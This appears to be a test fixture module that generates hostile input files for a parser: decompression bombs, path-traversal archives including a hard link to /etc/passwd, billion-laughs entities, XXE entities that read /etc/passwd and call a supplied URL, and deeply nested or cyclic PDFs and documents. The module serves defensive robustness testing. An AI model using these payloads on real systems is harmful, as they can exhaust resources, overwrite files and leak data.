"""Files made to hang, exhaust, escape from or reach out of whatever reads them.

python -m tests.bombs FOLDER [URL]      writes all of them; those that call home call URL
"""

import bz2
import gzip
import io
import json
import lzma
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from tests import samples

MB = 1024 * 1024
ESCAPE = "footnote-was-here"
"""In every name that leads out of a folder, so that one can look for it afterwards."""
NOWHERE = "http://127.0.0.1:9"

Bomb = Callable[[str], bytes]
"""Made for the URL that it is to call."""


def _zeros(size: int) -> bytes:
    """What `size` zeros are in zlib's format, without holding them."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(MB)) for _ in range(size // MB))
    return packed + packer.flush()


def _zip(names: list[str], content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name in names:
            info = zipfile.ZipInfo("x")
            # Past the setters, which would make the name harmless.
            info.filename = info.orig_filename = name
            archive.writestr(info, content)
    return buffer.getvalue()


def _zip_of_zeros(_: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("a.txt", "b.txt"):
            with archive.open(name, "w") as member:
                for _block in range(512):
                    member.write(bytes(MB))
    return buffer.getvalue()


def _nested_zip(_: str) -> bytes:
    """Six levels of ten, every one of which is the same: 640 TB in all."""
    content = _zip(["zeros.txt"], bytes(64 * MB))
    for _level in range(6):
        content = _overlapping([b"a.zip"] * 10, content)
    return content


def _overlapping(names: list[bytes], content: bytes) -> bytes:
    """A ZIP whose every entry is the same packed member."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(content) + packer.flush()
    fields = (20, 0, 8, 0, 0x21, zlib.crc32(content), len(packed), len(content))
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, len(names[0]), 0) + names[0] + packed
    central = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, len(name), 0, 0, 0, 0, 0, 0)
        + name
        for name in names
    )
    count = min(len(names), 0xFFFF)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), len(local), 0)
    if len(names) > count:
        place = len(local) + len(central)
        sizes = (len(names), len(names), len(central), len(local))
        wide = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, *sizes)
        end = wide + struct.pack("<IIQI", 0x07064B50, 0, place, 1) + end
    return local + central + end


def _overlapping_zip(_: str) -> bytes:
    return _overlapping([b"a.txt"] * 1900, bytes(128 * MB))


def _zip_of_a_million(_: str) -> bytes:
    return _overlapping([b"a"] * 1_000_000, b"")


def _escaping_zip(_: str) -> bytes:
    names = [
        f"../{ESCAPE}.txt",
        f"../../../../../../../../tmp/{ESCAPE}.txt",
        f"/tmp/{ESCAPE}-absolute.txt",  # noqa: S108 - the very place it must not reach
        f"C:\\{ESCAPE}.txt",
        f"..\\..\\{ESCAPE}.txt",
        f"//server/share/{ESCAPE}.txt",
        f"nul\0{ESCAPE}.txt",
        f"~/{ESCAPE}.txt",
        f"{'d/' * 500}{ESCAPE}.txt",
        "a\ud800b.txt".encode("utf-8", "replace").decode(),
    ]
    return _zip(names, b"text of an escaping file")


def _escaping_tar(_: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for kind, name, target in (
            (tarfile.SYMTYPE, "link", f"/tmp/{ESCAPE}"),  # noqa: S108
            (tarfile.LNKTYPE, "hard", "/etc/passwd"),
            (tarfile.CHRTYPE, "zero", ""),
            (tarfile.BLKTYPE, "disk", ""),
            (tarfile.FIFOTYPE, "pipe", ""),
            (tarfile.DIRTYPE, f"../{ESCAPE}", ""),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            archive.addfile(info)
        for name in (f"link/{ESCAPE}.txt", f"../{ESCAPE}-tar.txt", f"/tmp/{ESCAPE}-tar.txt"):  # noqa: S108
            info = tarfile.TarInfo(name)
            info.size = 4
            archive.addfile(info, io.BytesIO(b"text"))
    return buffer.getvalue()


def _sparse_tar(_: str) -> bytes:
    info = tarfile.TarInfo("huge.txt")
    info.size = 2**62
    return info.tobuf(tarfile.GNU_FORMAT) + bytes(10_240)


def _concatenated(pack: Callable[[bytes], bytes]) -> Bomb:
    return lambda _: pack(bytes(16 * MB)) * 128


def _zstandard(_: str) -> bytes:
    """Blocks of 128 KB that repeat one byte: 4 bytes each. 8 GB in all."""
    block = struct.pack("<I", (128 * 1024 << 3) | 2)[:3] + b"\0"
    frame = b"\x28\xb5\x2f\xfd" + bytes([0x00, 0x88])
    return frame + block * 65_536 + struct.pack("<I", 3)[:3] + b"\0"


def _pdf(objects: list[bytes]) -> bytes:
    content = b"%PDF-1.5\n"
    offsets: list[int] = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(content))
        content += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    count = len(objects) + 1
    return content + b"xref\n0 %d\n0000000000 65535 f \n%btrailer << /Size %d /Root 1 0 R >>\n" % (
        count, table, count,
    ) + b"startxref\n%d\n%%%%EOF\n" % len(content)  # fmt: skip


def _pdf_page(contents: bytes, *more: bytes) -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            (
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources"
                b" << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
                b" /XObject << /X 5 0 R >> >> >>"
            ),
            contents,
            *more,
        ]
    )


def _stream(content: bytes, entries: bytes) -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), entries, content)


def _pdf_stream_bomb(_: str) -> bytes:
    twice = zlib.compress(_zeros(4096 * MB), 9)
    return _pdf_page(_stream(twice, b"/Filter [/FlateDecode /FlateDecode]"))


def _pdf_text_bomb(_: str) -> bytes:
    shown = b"BT /F1 9 Tf 0 0 Td " + b"(aaaaaaaa bbbbbbbb) Tj 1 1 Td " * 1_000_000 + b"ET"
    return _pdf_page(_stream(zlib.compress(shown, 9), b"/Filter /FlateDecode"))


def _pdf_rules_bomb(_: str) -> bytes:
    drawn = b"".join(
        b"%d %d m %d 800 l S 0 %d m 600 %d l S " % (n % 600, 0, n % 600, n % 800, n % 800)
        for n in range(100_000)
    )
    text = b"BT /F1 9 Tf 10 10 Td (text) Tj ET "
    return _pdf_page(_stream(zlib.compress(text + drawn, 9), b"/Filter /FlateDecode"))


def _pdf_that_draws_itself(_: str) -> bytes:
    form = _stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]"
                   b" /Resources << /XObject << /X 5 0 R >> >>")  # fmt: skip
    return _pdf_page(_stream(b"BT /F1 9 Tf (text) Tj ET /X Do", b""), form)


def _pdf_with_a_cycle(_: str) -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 3 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>",
            b"<< /First 4 0 R /Last 4 0 R /Next 4 0 R /Parent 4 0 R /Title (x) /Count 1 >>",
        ]
    )


def _pdf_of_too_many_pages(_: str) -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 2147483000 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        ]
    )


_ENTITIES = '<!ENTITY a0 "boom boom">' + "".join(
    f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 16)
)


def _entities(inner: str) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE x [{_ENTITIES}]>{inner.replace("BOMB", "&a15;")}'


def _outside(inner: str, url: str) -> str:
    declared = (
        '<!ENTITY file SYSTEM "file:///etc/passwd">'
        f'<!ENTITY web SYSTEM "{url}/entity"><!ENTITY % more SYSTEM "{url}/dtd">%more;'
    )
    used = inner.replace("BOMB", "&file;&web;")
    return f'<?xml version="1.0"?><!DOCTYPE x [{declared}]>{used}'


_WORD = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Text BOMB</w:t></w:r></w:p></w:body></w:document>"
)
_DRAWN = '<svg xmlns="http://www.w3.org/2000/svg"><text>Text BOMB</text></svg>'
_PAGE = "<html><body><p>Text BOMB</p></body></html>"


def _docx_of(document: str) -> bytes:
    return samples.docx("", extra={"word/document.xml": document})


def _calling_page(url: str) -> bytes:
    return (
        f'<html><link rel=stylesheet href="{url}/css"><script src="{url}/js"></script>'
        f'<p>Text</p><img src="{url}/img"><iframe src="{url}/frame"></iframe></html>'
    ).encode()


def _calling_docx(url: str) -> bytes:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" TargetMode="External" Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/attachedTemplate" Target="{url}/template"/>'
        "</Relationships>"
    )
    body = samples.paragraph("Text")
    return samples.docx(body, extra={"word/_rels/settings.xml.rels": relations})


def _wide_sheet(_: str) -> bytes:
    """Two cells, at the corners of a sheet of 17 billion."""
    return samples.sheet_of(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>first</t></is></c></row>'
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>last</t></is></c></row>'
    )


def _deep_word_tables(_: str) -> bytes:
    inner = samples.paragraph("deep")
    depth = 2000
    return samples.docx("<w:tbl><w:tr><w:tc>" * depth + inner + "</w:tc></w:tr></w:tbl>" * depth)


def _nested_mail(_: str) -> bytes:
    content = samples.mail({"Subject": "innermost"}, "text")
    for level in range(200):
        headers = {"Subject": f"level {level}", "Content-Type": "message/rfc822"}
        content = samples.mail(headers, "") + content
    return content


def _mail_of_parts(_: str) -> bytes:
    parts = b"".join(
        b'--b\r\nContent-Disposition: attachment; filename="%d.txt"\r\n\r\ntext\r\n' % number
        for number in range(50_000)
    )
    headers = {"Subject": "many", "Content-Type": "multipart/mixed; boundary=b"}
    return samples.mail(headers, "") + parts + b"--b--"


def _escaping_mail(_: str) -> bytes:
    names = (f"../../{ESCAPE}.txt", f"/tmp/{ESCAPE}-mail.txt", f"C:\\{ESCAPE}.txt")  # noqa: S108
    parts = "".join(
        f'--b\nContent-Disposition: attachment; filename="{name}"\n\ntext\n' for name in names
    )
    headers = {"Subject": "Escape", "Content-Type": "multipart/mixed; boundary=b"}
    return samples.mail(headers, parts + "--b--")


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        body = kind + content
        return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    pixels = _zeros(height * (width // 8 + 1))
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


BOMBS: dict[str, Bomb] = {
    "zeros.zip": _zip_of_zeros,
    "nested.zip": _nested_zip,
    "overlapping.zip": _overlapping_zip,
    "million.zip": _zip_of_a_million,
    "escaping.zip": _escaping_zip,
    "escaping.tar": _escaping_tar,
    "huge-member.tar": _sparse_tar,
    "zeros.gz": _concatenated(lambda content: gzip.compress(content, 9)),
    "zeros.bz2": _concatenated(bz2.compress),
    "zeros.xz": _concatenated(lzma.compress),
    "zeros.zst": _zstandard,
    "stream.pdf": _pdf_stream_bomb,
    "text.pdf": _pdf_text_bomb,
    "rules.pdf": _pdf_rules_bomb,
    "draws-itself.pdf": _pdf_that_draws_itself,
    "cycle.pdf": _pdf_with_a_cycle,
    "pages.pdf": _pdf_of_too_many_pages,
    "entities.xml": lambda _: _entities("<x>Text BOMB</x>").encode(),
    "entities.svg": lambda _: _entities(_DRAWN).encode(),
    "entities.html": lambda _: _entities(_PAGE).encode(),
    "entities.docx": lambda _: _docx_of(_entities(_WORD)),
    "outside.xml": lambda url: _outside("<x>Text BOMB</x>", url).encode(),
    "outside.svg": lambda url: _outside(_DRAWN, url).encode(),
    "outside.html": lambda url: _outside(_PAGE, url).encode(),
    "outside.docx": lambda url: _docx_of(_outside(_WORD, url)),
    "calling.html": _calling_page,
    "calling.docx": _calling_docx,
    "zeros.docx": lambda _: _docx_of("\0" * (300 * MB)),
    "deep-tables.docx": _deep_word_tables,
    "corners.xlsx": _wide_sheet,
    "nested.eml": _nested_mail,
    "parts.eml": _mail_of_parts,
    "escaping.eml": _escaping_mail,
    "deep.json": lambda _: b"[" * 1_000_000,
    "deep.ipynb": lambda _: b'{"cells":' * 100_000,
    "deep.html": lambda _: b"<div>" * 200_000 + b"deep",
    "deep.xml": lambda _: b"<a>" * 200_000 + b"deep" + b"</a>" * 200_000,
    "deep.md": lambda _: b"> " * 100_000 + b"deep\n" + b"[" * 100_000 + b"\n" + b"#" * 100_000,
    "deep-matter.md": lambda _: b"---\na: " + b"[" * 15_000 + b"\n---\ntext",
    "deep.rtf": lambda _: b"{\\rtf1 " + b"{" * 500_000 + b"deep",
    "open-tags.html": lambda _: b"<title" * 300_000,
    "links.html": lambda _: b"<p>" + b"![](" * 100_000 + b"[a](" * 100_000,
    "word.txt": lambda _: b"w" * (2 * MB),
    "word.md": lambda _: b"# " + b"w" * (2 * MB),
    "word.html": lambda _: b"<p>" + b"w" * (2 * MB),
    "columns.csv": lambda _: b"a," * MB + b"\n" + b"b," * MB,
    "surrogates.txt": lambda _: b"lone \xed\xa0\x80 surrogates \xed\xbf\xbf" * 1000,
    "surrogates.json": lambda _: json.dumps({"lone": "\ud800" * 1000}).encode(),
    "invisible.txt": lambda _: ("\u200b\u200d\ufeff\u2060" * 100_000).encode() + b"text\0",
    "pixels.png": lambda _: _png(60_000, 60_000),
}


def write_bombs(folder: Path, url: str = NOWHERE) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    for name, make in BOMBS.items():
        (folder / name).write_bytes(make(url))
    return [folder / name for name in BOMBS]


if __name__ == "__main__":
    write_bombs(Path(sys.argv[1]), *sys.argv[2:3])
